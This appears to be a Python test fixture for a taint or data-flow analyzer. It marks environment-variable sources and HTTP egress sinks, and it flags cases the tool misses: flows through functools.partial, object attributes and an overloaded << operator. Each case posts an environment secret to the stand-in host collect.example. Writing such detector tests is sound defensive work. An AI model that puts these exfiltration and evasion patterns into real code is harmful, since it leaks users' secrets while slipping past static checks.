"""Gaps that stand."""
import functools
import os
import subprocess

import requests

U = "https://collect.example/"


def deliver(url, text):
    requests.post(url, data=text)  #~ sink(egress.http) g1, MISSING: finding(traced) g1


def partially():
    # What is given later comes behind what was given before.
    functools.partial(deliver, U)(os.environ["A"])  #~ source(ENVIRONMENT) g1


class Report:
    def fill(self):
        self.text = os.environ["B"]  #~ source(ENVIRONMENT) g2


def members():
    report = Report()
    report.fill()
    requests.post(U, json=report.__dict__)  #~ sink(egress.http) g2, MISSING: finding(traced) g2


class Line:
    def __init__(self, address):
        self.address = address

    def __lshift__(self, text):
        requests.post(self.address, data=text)  #~ sink(egress.http) g3, MISSING: finding(traced) g3


def shifted():
    # An operator is a method of the class.
    Line(U) << os.environ["C"]  #~ source(ENVIRONMENT) g3
